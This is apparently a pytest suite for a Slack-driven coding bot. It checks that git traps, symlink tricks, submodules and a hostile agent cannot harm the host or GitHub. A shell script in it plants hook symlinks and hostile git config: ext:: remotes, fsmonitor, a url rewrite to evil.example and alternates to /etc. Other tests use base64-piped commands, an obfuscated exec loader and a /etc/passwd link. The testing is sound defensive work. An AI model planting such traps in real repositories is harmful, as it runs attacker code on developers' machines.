"""Attacks through the whole bot: the thread told, the host and GitHub unharmed."""

from __future__ import annotations

import base64
import re
from pathlib import Path
from typing import Any

import pytest
from markdown_it import MarkdownIt
from session_kit import assert_clean, finals

from bot.testing import Botty, Thread

pytestmark = pytest.mark.proof("output")
_SOURCE = (Path(__file__).parent / "data" / "hostile_agent.py").read_bytes()
# In braces are placeholders for the configuration, so Python's own have to be hidden from it.
AGENT = f"import base64; exec(base64.b64decode('{base64.b64encode(_SOURCE).decode()}'))"
OBEYED = re.compile(r"<[!@#](?!U0(?:ADA|BEN)SAMPL>)")

# Everything that makes git run a program or look elsewhere, in the repository, above it and for its user.
TRAPS = """
set -e
trap=$HOME/trap.sh
cat > "$trap" <<'END'
#!/bin/sh
echo ran >> "$HOME/ran"
echo owned > 'CANARY' 2>/dev/null
cat
END
chmod +x "$trap"
mkdir -p .git/hooks
for hook in pre-commit post-commit pre-push post-checkout post-merge post-rewrite reference-transaction \
            pre-receive update post-update post-index-change proc-receive fsmonitor-watchman; do
  ln -sf "$trap" .git/hooks/$hook
done
for file in .git/config "$HOME/.gitconfig"; do
  for key in core.fsmonitor core.sshCommand core.editor core.pager core.askPass core.gitProxy diff.external \
             filter.evil.clean filter.evil.smudge diff.evil.textconv diff.evil.command merge.evil.driver \
             gpg.program credential.helper sequence.editor uploadpack.packObjectsHook \
             core.alternateRefsCommand; do
    git config --file "$file" "$key" "$trap"
  done
  git config --file "$file" filter.evil.required true
  git config --file "$file" commit.gpgSign true
  git config --file "$file" core.hooksPath .git/hooks
  git config --file "$file" 'url.https://evil.example/.insteadOf' https://
  git config --file "$file" 'url.ext::sh -c "$trap" .insteadOf' http://
  git config --file "$file" remote.origin.url "ext::sh -c $trap"
  git config --file "$file" protocol.ext.allow always
  git config --file "$file" http.proxy http://127.0.0.1:1
  git config --file "$file" core.worktree /
done
echo '* filter=evil diff=evil merge=evil' > .gitattributes
echo /etc > .git/objects/info/alternates
mkdir -p .git/refs/replace
echo evil > a.txt
echo planted
"""


def encoded(script: str) -> str:
    """A request that runs this script, whatever characters are in it."""
    return f"run `echo {base64.b64encode(script.encode()).decode()} | base64 -d | sh`"


async def told(thread: Thread) -> str:
    """The final message of the last turn."""
    return (await thread.final()).everything


async def test_a_repository_full_of_traps_runs_nothing_on_the_host(botty: Botty, tmp_path: Path) -> None:
    """They spring inside, which shows that they are live; what they would write on the host is not there."""
    canary = tmp_path / "canary"
    thread = await botty.say(encoded(TRAPS.replace("CANARY", str(canary))))
    assert "Done." in await told(thread), await thread.by_bot()
    [pull] = await botty.pulls()
    assert sorted(pull["files"]) == [".gitattributes", "a.txt"]
    assert "+evil" in pull["diff"]
    assert [commit["author"] for commit in pull["commits"]] == ["Ada Sample"]
    await thread.say('run `wc -l < "$HOME/ran"` then create b.txt with "b"', "ben")
    assert "updated" in await told(thread)
    shown = "\n".join(post.everything for post in await thread.by_bot())
    assert re.search(r"^[1-9]\d*$", shown, re.M), shown  # how often a trap sprang inside
    [pull] = await botty.pulls()
    assert sorted(pull["files"]) == [".gitattributes", "a.txt", "b.txt"]
    assert not canary.exists()
    assert not [path for path in tmp_path.rglob("*") if "trap" in path.name and "mirrors" in path.parts]
    await assert_clean(botty, thread, ends=2)


REFUSED = {
    "a link in place of the folder of workflows": (
        "mkdir evil && echo 'on: push' > evil/ci.yml && ln -s evil .github",
        "change of workflows needs a person",
        "rm -r .github evil",
    ),
    "a workflow by way of a link": (
        "mkdir -p .GitHub/WorkFlows && ln -s .GitHub/WorkFlows w && echo 'on: push' > w/ci.yml",
        "change of workflows needs a person",
        "rm -r .GitHub w",
    ),
    "a repository in the repository": (
        "git init -q sub && cd sub && touch x && git add x && git -c user.name=a -c user.email=a@b "
        "commit -qm x",
        "submodule or nested repository sub",
        "rm -rf sub",
    ),
    "a submodule": (
        "printf '[submodule \"x\"]\\n path = x\\n url = https://evil.example/x\\n' > .gitmodules",
        "submodule or nested repository .gitmodules",
        "rm .gitmodules",
    ),
    "a name that turns around": (
        "touch \"$(printf 'x\\342\\200\\256txt.exe')\"",
        "control characters",
        "rm x*exe",
    ),
    "attributes by way of a link": ("ln -s /etc/passwd .gitattributes", "wants a file", "rm .gitattributes"),
    "too many files": (
        "mkdir many && cd many && seq 2001 | xargs touch",
        "more than 2000 files",
        "rm -r many",
    ),
    "a file of nothing, but of 21 MiB": ("truncate -s 21M big", "big is larger than 20 MiB", "rm big"),
}


async def test_work_that_breaks_a_rule_is_refused_by_its_name_and_mended_by_a_reply(
    botty: Botty, record_property: Any
) -> None:
    """In one thread, one after the other: nothing is pushed until the last turn, which is in order."""
    thread, undo = await botty.say("hello"), "true"
    for attack, (script, words, next_undo) in REFUSED.items():
        await thread.say(encoded(f"set -e\n{undo}\n({script})"))
        text, undo = await told(thread), next_undo
        assert ("did not work" in text, words in text) == (True, True), f"{attack}: {text}"
        assert text.count(words) == 2, text  # once as the notification, once in the message
        assert await botty.pulls() == []
    await thread.say(f'{encoded(undo)} then create a.txt with "a"')
    assert "Done." in await told(thread)
    [pull] = await botty.pulls()
    assert pull["files"] == ["a.txt"]
    record_property("cases", len(REFUSED))


class TestWithAHostileAgent:
    @pytest.fixture
    def botty_settings(self) -> dict[str, Any]:
        own = {"hostile": {"command": ["python3", "-c", AGENT]}}
        return {"agents": {"default": "hostile", **own}}

    async def test_its_words_call_nobody_and_its_pull_request_is_harmless(self, botty: Botty) -> None:
        """In the stream, the final message, title, description and commit, as they are read back."""
        thread = await botty.say("attack by words")
        final = await told(thread)
        assert "Done." in final
        for post in await thread.by_bot():
            assert not OBEYED.search(post.everything)
            assert "](https://evil" not in post.everything
            assert "<https://evil.example|" not in post.everything
        [pull] = await botty.pulls()
        assert_harmless(pull)
        await thread.say("and once more by words", "ben")
        assert "updated" in await told(thread) or "Nothing changed" in await told(thread)
        [pull] = await botty.pulls()
        assert_harmless(pull)

    async def test_a_flood_ends_in_messages_that_slack_takes(self, botty: Botty) -> None:
        thread = await botty.say("attack by flood")
        await thread.final()
        posts = await thread.by_bot()
        assert len(finals(posts)) <= 1
        assert not [post for post in posts if post.raw["streaming"]]
        shown = "\n".join(post.everything for post in posts)
        assert "Step 299" in shown
        assert len(re.findall(r"^\[\w+\] Step \d+$", shown, re.M)) == 101
        assert sum(post.text.count("word") for post in posts) < 60_000 / 5
        await thread.say("now talk")
        assert "Nothing changed" in await told(thread)
        talking = [post for post in await thread.by_bot() if "talk talk" in post.everything]
        sizes = [post.text.count("talk ") * 5 for post in talking]
        assert 4_000 < max(sizes) <= 12_000, sizes

    async def test_a_line_without_end_and_questions_to_the_host_end_with_a_word_of_why(
        self, botty: Botty
    ) -> None:
        thread = await botty.say("attack by line")
        text = await told(thread)
        assert "did not work" in text
        assert "more than 8388608 bytes, which is the cap" in text
        assert await botty.pulls() == []
        await thread.say("now ask")
        assert "Done." in await told(thread)
        [pull] = await botty.pulls()
        assert sorted(pull["files"]) == ["answers.json", "line.txt"]
        assert pull["diff"].count("-32601") == 3
        assert "root:" not in pull["diff"]
        assert "forged" not in "".join(post.everything for post in await thread.by_bot())


def assert_harmless(pull: dict[str, Any]) -> None:
    assert "[skip ci]" not in pull["title"]
    assert not re.search(r"#\d|@\w", pull["title"])
    for commit in pull["commits"]:
        assert not re.search(r"#\d|(?<![\w.])@\w|\[skip ci\]|GH-\d|Boss", commit["message"])
    tokens = MarkdownIt("commonmark", {"maxNesting": 300}).enable("table").parse(pull["body"])
    assert max(token.level for token in tokens) < 20
    paragraphs = [token for token in tokens if token.type == "inline" and token.level == 1]
    assert sum(token.content.startswith("Requested by") for token in paragraphs) == 1
    kinds = [child.type for token in tokens for child in token.children or ()]
    assert "image" not in kinds
    assert "html_inline" not in kinds
    texts = [child.content for token in tokens for child in token.children or () if child.type == "text"]
    said = [text for text in texts if not text.startswith("Requested by")]
    assert not [text for text in said if re.search(r"@\w|#\d|GH-\d|https?://", text)]
